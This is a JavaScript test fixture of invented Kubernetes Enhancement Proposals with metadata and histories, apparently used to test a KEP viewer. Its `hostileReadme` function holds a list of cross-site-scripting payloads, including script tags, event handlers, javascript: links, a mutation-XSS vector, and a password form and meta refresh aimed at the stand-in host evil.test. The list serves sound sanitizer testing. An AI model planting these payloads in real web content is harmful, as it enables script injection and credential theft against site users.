// KEPs that there are none of: few, with all that the section of KEPs shows.

const REPOSITORY = {
  participatingSigs: [],
  authors: ['@writer'],
  reviewers: ['@reader'],
  approvers: ['@approver'],
  readinessApprovers: [],
  milestones: {},
  featureGates: [],
  metrics: [],
  seeAlso: [],
  replaces: [],
  supersededBy: [],
  written: {},
};

const change = (day, pullRequest, field, from, to) => ({
  commit: `${pullRequest}`.padStart(40, 'c0ffee'),
  time: `${day}T12:00:00Z`,
  pullRequest,
  field,
  ...(from !== undefined && { from }),
  ...(to !== undefined && { to }),
});

/** As `syncKeps` takes them. */
export function madeUpKeps() {
  return [
    {
      kep: kep('11-naps', 'sig-node', {
        ...{ number: 11, title: 'Naps in the afternoon', status: 'provisional', stage: 'alpha' },
        ...{ latestMilestone: 'v1.33', milestones: { alpha: 'v1.33' } },
        featureGates: [{ name: 'AfternoonNaps', components: ['kubelet'] }],
      }),
      text: hostileReadme(),
      findings: [
        {
          file: 'keps/sig-node/11-naps/kep.yaml',
          line: 3,
          level: 'warning',
          rule: 'date-form',
          message: '"2024-2-1" is not of the form 2006-01-31',
        },
      ],
      history: {
        changed: '2025-12-01T12:00:00Z',
        changes: [
          change('2024-01-01', 101, 'kep', undefined, 'proposed'),
          change('2024-01-01', 101, 'title', undefined, 'Naps in the afternoon'),
          change('2024-01-01', 101, 'owning-sig', undefined, 'sig-node'),
          change('2024-01-01', 101, 'status', undefined, 'provisional'),
        ],
      },
    },
    {
      kep: kep('12-softer-pillows', 'sig-node', {
        ...{ number: 12, title: 'Softer pillows', status: 'implementable', stage: 'beta' },
        authors: ['Ada Example', '@writer'],
        ...{ latestMilestone: 'v1.33', milestones: { alpha: 'v1.30', beta: 'v1.33' }, created: '2024-02-01' },
        readinessApprovers: [{ stage: 'alpha', approver: '@ready' }],
        featureGates: [{ name: 'SoftPillows', components: ['kubelet', 'kube-apiserver'] }],
        seeAlso: [
          { text: '/keps/sig-node/11-naps', kep: '11-naps' },
          { text: '/keps/sig-node/99-nothing', isDangling: true },
        ],
        replaces: [{ text: 'keps/sig-apps/15-cots', kep: '15-cots' }],
      }),
      text: '# KEP-12: Softer pillows\n\n## Summary\n\nPillows of foam.\n\n## Motivation\n\nNecks.\n',
      findings: [],
      history: {
        changed: '2025-06-01T12:00:00Z',
        changes: [
          change('2024-02-01', 300, 'kep', undefined, 'proposed'),
          change('2024-02-01', 300, 'title', undefined, 'Pillows'),
          change('2024-02-01', 300, 'stage', undefined, 'alpha'),
          change('2024-09-01', 301, 'title', 'Pillows', 'Softer pillows'),
          change('2025-06-01', 302, 'stage', 'alpha', 'beta'),
          change('2025-06-01', 302, 'milestone.beta', undefined, 'v1.33'),
        ],
      },
    },
    {
      kep: kep('13-dreams', 'sig-apps', { number: 13, title: 'Dreams', status: 'implementable', stage: 'alpha' }),
      text: '# Dreams\n\nOf sheep.\n',
      findings: [],
      history: history('2025-03-01', 201, 'Dreams'),
    },
    {
      kep: kep('14-hammocks', 'sig-node', {
        ...{ number: 14, title: 'Hammocks', status: 'implemented', stage: 'stable' },
        ...{ latestMilestone: 'v1.32', milestones: { stable: 'v1.32' } },
        seeAlso: [{ text: '12', kep: '12-softer-pillows' }],
      }),
      text: `# Hammocks\n\n## Summary\n\nFor marmots.\n\n${'A line of words.\n\n'.repeat(80)}## Last words\n\nGood night.\n`,
      findings: [],
      history: history('2025-02-01', 202, 'Hammocks'),
    },
    {
      kep: kep('15-cots', 'sig-apps', { number: 15, title: 'Cots', written: { status: 'replacd' } }),
      text: '',
      findings: [],
      history: history('2025-01-01', 203, 'Cots'),
    },
  ];
}

function kep(name, owningSig, more) {
  const path = `keps/${owningSig}/${name}`;
  return { ...REPOSITORY, name, path, readme: `${path}/README.md`, owningSig, ...more };
}

function history(day, pullRequest, title) {
  return {
    changed: `${day}T12:00:00Z`,
    changes: [
      change(day, pullRequest, 'kep', undefined, 'proposed'),
      change(day, pullRequest, 'title', undefined, title),
    ],
  };
}

/** A text that tries all that a text of others might. */
export function hostileReadme() {
  return `# KEP-11: Naps

<script>globalThis.pwned = 'script'</script>
<script src="https://evil.test/a.js"></script>
<img src=x onerror="globalThis.pwned = 'onerror'">
<img src="https://evil.test/pixel.png" alt="a pixel">
<svg onload="globalThis.pwned = 'svg'"><script>globalThis.pwned = 'svg script'</script></svg>
<style>body { display: none; background: url(https://evil.test/style) }</style>
<p style="position: fixed; inset: 0">a cover</p>
<iframe src="https://evil.test/"></iframe>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>
<object data="https://evil.test/a.swf"></object><embed src="https://evil.test/e">
<form action="https://evil.test/"><input name="password"><button formaction="javascript:pwned=1">go</button></form>
<base href="https://evil.test/"><meta http-equiv="refresh" content="0; url=https://evil.test/">
<link rel="stylesheet" href="https://evil.test/a.css">
<math><mtext><table><mglyph><style><img src=x onerror="globalThis.pwned = 'math'"></style></mglyph></table></mtext></math>
<a href="javascript:globalThis.pwned = 'link'">a link</a> [another](javascript:globalThis.pwned='markdown')
<a href="&#106;avascript:globalThis.pwned='entity'">a third</a> <a href="data:text/html,<script>1</script>">a fourth</a>
<template><script>globalThis.pwned = 'template'</script></template>
<details ontoggle="globalThis.pwned = 'toggle'" open><summary>more</summary></details>
<title>Not the title</title>

What is left of it: ![beside](https://evil.test/picture.png), [12](../12-softer-pillows) and marmots.

| a | b |
| - | - |
| 1 | 2 |

\`\`\`yaml
kind: Nap
\`\`\`
`;
}
